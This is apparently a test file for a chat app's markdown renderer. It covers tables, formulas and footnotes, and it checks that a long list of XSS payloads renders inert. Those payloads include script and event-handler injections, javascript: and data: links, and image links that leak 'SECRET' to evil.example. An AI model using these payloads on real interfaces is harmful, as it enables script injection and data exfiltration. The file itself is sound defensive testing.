import { renderToStaticMarkup } from 'react-dom/server'
import { describe, expect, it } from 'vitest'
import { lexMarkdown } from '../../../src/renderer/markdown/lexer'
import { highlight } from '../../../src/renderer/markdown/highlighter'
import { Markdown } from '../../../src/renderer/markdown/Markdown'
import { renderBlocks } from '../../../src/renderer/markdown/render-blocks'

const render = (source: string) => renderToStaticMarkup(<>{renderBlocks(lexMarkdown(source))}</>)
/** As the chat draws it: history, and an answer that still grows. */
const renderWhole = (text: string, isStreaming = false) =>
  renderToStaticMarkup(<Markdown text={text} isStreaming={isStreaming} />)

/** Elements and attributes that the renderer may ever produce. Anything else came from the text. */
const allowedTags = new Set(
  'p h3 ul ol li strong em del code pre a bdi br hr blockquote span div table thead tbody tr th td input button svg path rect sup section'.split(
    ' ',
  ),
)

const attacks = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  'inline <img src=x onerror=alert(1)> image',
  '<svg onload=alert(1)><animate onbegin=alert(1)></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<a href="javascript:alert(1)">click</a>',
  '[click](javascript:alert(1))',
  '[click](JaVaScRiPt:alert(1))',
  '[click](javascript&#x0A;:alert(1))',
  '[click](&#106;avascript:alert(1))',
  '[click](java%0ascript:alert(1))',
  '[click](<javascript:alert(1)>)',
  '[click](data:text/html,<script>alert(1)</script>)',
  '[click](vbscript:msgbox(1))',
  '[click](file:///etc/passwd)',
  '[click](app.patchbay.desktop:/oauth/callback?code=1)',
  '[click](ms-msdt:/id)',
  '[click](//evil.example)',
  '[click](https://user:password@evil.example)',
  '[click][ref]\n\n[ref]: javascript:alert(1)',
  '<javascript:alert(1)>',
  '![x](https://evil.example/?q=SECRET)',
  '![x][ref]\n\n[ref]: https://evil.example/?q=SECRET',
  '![x](data:image/svg+xml,<svg onload=alert(1)>)',
  '[![x](https://evil.example/a.png)](https://evil.example)',
  '<link rel=preload href=https://evil.example>',
  '<style>@import "https://evil.example"</style>',
  '<div style="background:url(https://evil.example)">',
  '<form action=https://evil.example><button>Approve</button></form>',
  '`<script>alert(1)</script>`',
  '```html\n<script>alert(1)</script>\n```',
  '```"><script>alert(1)</script>\nx\n```',
  '[x](https://example.com "\\"><script>alert(1)</script>")',
  '| <img src=x onerror=alert(1)> |\n|---|\n| <script>alert(1)</script> |',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;img src=x onerror=alert(1)&#62;',
  '- <details open ontoggle=alert(1)>\n- [ ] <input autofocus onfocus=alert(1)>',
  '\u2028<script>alert(1)</script>\u2029',
  '<scr\u0000ipt>alert(1)</script>',
  '$<img src=x onerror=alert(1)>$ and $$<script>alert(1)</script>$$',
  '$\\href{javascript:alert(1)}{x}$',
  '\\[\\includegraphics{https://evil.example/?q=SECRET}\\]',
  '$$\n\\htmlData{x=1}{<svg onload=alert(1)>}\n$$',
  '[^<img src=x onerror=alert(1)>]',
  '[^x"onfocus=alert(1)]\n\n[^x"onfocus=alert(1)]: <img src=x onerror=alert(1)>',
  '[^1]\n\n[^1]: [click](javascript:alert(1)) ![x](https://evil.example/?q=SECRET)',
  '[[^1]](https://example.com)\n\n[^1]: a',
  '```javascript onload=alert(1)\n"</code></pre><script>alert(1)</script>"\n```',
  '```constructor\nx\n```\n\n```__proto__\ny\n```',
  '| [a](javascript:alert(1)) | ![x](https://evil.example/t) |\n|:-:|"onclick=alert(1)|\n| $\\href{javascript:alert(1)}{x}$ | [^1] |',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<![CDATA[<script>alert(1)</script>]]> <?php <script>alert(1)</script> ?>',
  '<svg><style><img src="</style><img src=x onerror=alert(1)>">',
  "<a href='jav\tascript:alert(1)'>x</a> <a href=' javascript:alert(1)'>y</a>",
  '[x](https://example.com/"onmouseover=alert(1))',
  '<https://example.com/"onmouseover="alert(1)>',
  '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
  '<object data="data:text/html,<script>alert(1)</script>"></object><embed src=javascript:alert(1)>',
]

describe('hostile markdown', () => {
  for (const attack of attacks) {
    it(`is inert: ${JSON.stringify(attack)}`, () => {
      for (let end = 1; end <= attack.length; end += 1) {
        expectInert(renderWhole(attack.slice(0, end), true))
        expectInert(renderWhole(attack.slice(0, end)))
      }
    })
  }

  function expectInert(html: string): void {
    for (const [, tag = ''] of html.matchAll(/<([a-zA-Z][^\s/>]*)/g)) expect(allowedTags).toContain(tag)
    expect(html).not.toMatch(/<[^>]*\s(on\w+|src|srcset|srcdoc|style|action|formaction|background)=/i)
    for (const [, href = ''] of html.matchAll(/href="([^"]*)"/g)) expect(href).toMatch(/^https?:\/\/[^@/]+(\/|$)/)
  }

  for (const grammar of ['xml', 'javascript', 'markdown', 'css', 'php', 'diff', 'json', 'python']) {
    it(`is inert as highlighted ${grammar}`, () => {
      for (const attack of attacks) expectInert(renderToStaticMarkup(<>{highlight(attack, grammar)}</>))
    })
  }

  it('loads no image: it is a link that names its host', () => {
    const html = render('![chart](https://evil.example/?q=SECRET)')
    expect(html).not.toContain('<img')
    expect(html).toContain('Image: chart')
    expect(html).toContain('(evil.example)')
  })

  it('shows raw HTML as the text it is', () => {
    expect(render('<b>bold</b> and <i>more</i>')).toContain('&lt;b&gt;')
  })

  it('names the real host beside a link whose text is another address', () => {
    expect(render('[https://good.com](https://evil.com/login)')).toContain('(evil.com)')
    expect(render('[www.good.com](https://good.com/)')).not.toContain('md-host')
    expect(render('[good.com\u202e](https://evil.com)')).toContain('(evil.com)')
    expect(render('[our terms](https://example.com)')).toContain('title="Opens example.com in your browser"')
  })

  it('shows look-alike letters in a host by their punycode', () => {
    expect(render('[https://apple.com](https://аpple.com)')).toContain('xn--pple-43d.com')
  })
})

describe('GFM', () => {
  it('renders tables with their alignment, inside a box that scrolls', () => {
    const html = render('| a | b |\n|:--|--:|\n| 1 | 2 |')
    expect(html).toContain('class="md-table"')
    expect(html).toContain('<td class="md-right">2</td>')
  })

  it('renders task lists as check boxes that cannot be pressed', () => {
    expect(render('- [x] done')).toMatch(/<input type="checkbox" disabled="" .*checked=""/)
  })

  it('keeps tight list items free of paragraphs and gives loose ones theirs', () => {
    expect(render('- a\n- b')).not.toContain('<p>')
    expect(render('- a\n\n- b')).toContain('<li><p>a</p></li>')
  })

  it('decodes character references in text but not in code', () => {
    expect(render('a &amp; b &copy; &#x2014; &unknown;')).toBe('<p>a &amp; b © — &amp;unknown;</p>')
    expect(render('`&amp;`')).toContain('&amp;amp;')
  })

  it('starts an ordered list at its own number', () => {
    expect(render('7. seventh')).toContain('<ol start="7">')
  })

  it('gives code its language and a button to copy it', () => {
    const html = render('```ts\nconst a = 1\n```')
    expect(html).toContain('Copy code')
    expect(html).toContain('aria-label="Code, ts"')
  })

  it('shows emphasis, strike-through, line breaks, quotes and rules', () => {
    const html = render('*a* **b** ~~c~~  \nd\n\n> q\n\n---')
    for (const tag of ['<em>', '<strong>', '<del>', '<br/>', '<blockquote>', '<hr/>']) expect(html).toContain(tag)
  })
})

describe('formulas', () => {
  const formulas = (source: string) =>
    [...render(source).matchAll(/<code class="md-tex[^"]*">([^<]*)<\/code>/g)].map(([, tex]) => tex)

  const written: Readonly<Record<string, readonly string[]>> = {
    'Einstein: $E = mc^2$.': ['E = mc^2'],
    'Inline \\(a_1 + b_1\\) here': ['a_1 + b_1'],
    '$$\n\\frac{a}{b}\n$$': ['\\frac{a}{b}'],
    'As follows:\n\\[\nx = y\n\\]\nwhere $x$ is it': ['x = y', 'x'],
    '- item\n  $$\n  x^2\n  $$': ['x^2'],
    '*Note: $a*b$ and $c*d$*': ['a*b', 'c*d'],
    'The triangle $ABC$': ['ABC'],
  }
  for (const [source, expected] of Object.entries(written)) {
    it(`finds them in ${JSON.stringify(source)}`, () => expect(formulas(source)).toEqual(expected))
  }

  const prices = [
    'It costs $5 and $10.',
    'From $5-$10 or $1,000/$2,000 a month',
    'I paid $20 (US$) for it',
    'US$5 and CA$7$',
    'Set $HOME and $PATH, or $HOME:$PATH',
    'An escaped \\$5$ sign',
    '`$x$` and ``$y$``',
    'Two lines: $5\nand then $',
    '$$\nnever closed',
    '\\[a title\\](https://example.com) and \\(see above\\)',
    '- \\[ \\] not a task',
  ]
  for (const source of prices) {
    it(`leaves ${JSON.stringify(source)} alone`, () => expect(formulas(source)).toEqual([]))
  }

  it('leaves the emphasis around a formula whole', () => {
    expect(render('*Note: $a*b$ end*')).toMatch(/^<p><em>Note: .*<\/code> end<\/em><\/p>$/)
  })
})

describe('footnotes', () => {
  const text = 'One[^b] two[^a] one again[^b].\n\n[^a]: Note *a*\n[^b]: Note b\n\n    with a second paragraph\n'

  it('are numbered in the order in which the text refers to them, and listed at the end', () => {
    const html = renderWhole(text)
    expect([...html.matchAll(/data-note-reference="(\d)"/g)].map(([, number]) => number)).toEqual(['1', '2', '1'])
    expect(html).toMatch(/<li value="1" data-note="1".*Note b.*with a second paragraph.*<li value="2".*<em>a<\/em>/s)
  })

  it('show their numbers while their notes are still to come', () => {
    expect(renderWhole('One[^b] two[^a]', true)).toContain('aria-label="Footnote 2"')
  })

  it('are text when no note comes', () => {
    expect(renderWhole('One[^b] two[^a]\n\n[^a]: note')).toContain('One[^b] two<sup>')
  })

  it('never navigate: their references and back links are buttons', () => {
    expect(renderWhole(text)).not.toContain('<a ')
  })
})
